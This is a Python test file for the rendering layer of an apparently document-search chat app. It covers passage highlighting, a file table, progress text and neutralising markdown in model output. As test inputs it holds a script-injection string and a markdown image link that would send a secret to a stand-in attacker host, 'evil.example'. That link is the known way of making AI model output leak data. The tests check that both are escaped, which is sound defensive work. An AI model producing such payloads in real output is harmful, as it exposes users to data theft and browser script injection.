"""What the UI shows: highlighted, escaped passages; the library table; the ETA."""

from __future__ import annotations

from rag.index.manifest import DocumentRecord
from ui.render import document_rows, eta, highlight, inert_markdown, locate


def test_locate_exact_and_whitespace_insensitive() -> None:
    passage = "UK trips: £45 per day.\nTrips abroad:   £70\nper day."
    assert locate(passage, "UK trips: £45 per day.") == (0, 22)
    start, end = locate(passage, "Trips abroad: £70 per day.") or (0, 0)
    assert passage[start:end] == "Trips abroad:   £70\nper day."
    assert locate(passage, "Nothing like this") is None
    assert locate(passage, "") is None
    assert locate(passage, "UK trips: £45…") == (0, 13)


def test_highlight_escapes_document_text() -> None:
    passage = "<script>alert(1)</script> **bold** & [link](http://x)\nline two"
    out = highlight(passage, (0, 25))
    assert "<script>" not in out
    assert '<mark class="rag-support">&lt;script&gt;alert(1)&lt;/script&gt;</mark>' in out
    assert "<br>line two" in out
    assert out.startswith('<div class="rag-passage">') and out.endswith("</div>")
    assert "<mark" not in highlight(passage, None)


def test_document_rows_filter() -> None:
    docs = [
        DocumentRecord("c", "/d/Policy.md", "h1", 1, 1, 3, None, "md", "2026-11-27T10:00:00+00:00"),
        DocumentRecord("c", "/d/report.pdf", "h2", 1, 1, 7, 2, "pdf", "2026-11-27T10:00:00+00:00"),
    ]
    assert [r["name"] for r in document_rows(docs)] == ["Policy.md", "report.pdf"]
    assert [r["name"] for r in document_rows(docs, "POLICY")] == ["Policy.md"]
    assert document_rows(docs, "nothing") == []
    assert document_rows(docs)[1]["pages"] == 2


def test_eta() -> None:
    assert eta(10.0, 2, 10) == "2/10 files · about 40 s left"
    assert eta(10.0, 10, 10) == "10/10 files · done"
    assert eta(0.0, 0, 5) == "0/5 files"
    assert eta(60.0, 1, 3) == "1/3 files · about 2 min 00 s left"


def test_model_output_cannot_fetch_or_link() -> None:
    out = inert_markdown("See ![x](https://evil.example/?q=secret) [2] and $70 or $45\\")
    assert "![" not in out and "!\\[x](https" in out
    assert "\\[2]" in out and "\\$70" in out and out.endswith("\\\\")
    # Piece by piece (as streamed) gives the same text as all at once.
    pieces = ["!", "[x](https://e", "vil)", " $", "5"]
    assert "".join(inert_markdown(p) for p in pieces) == inert_markdown("".join(pieces))
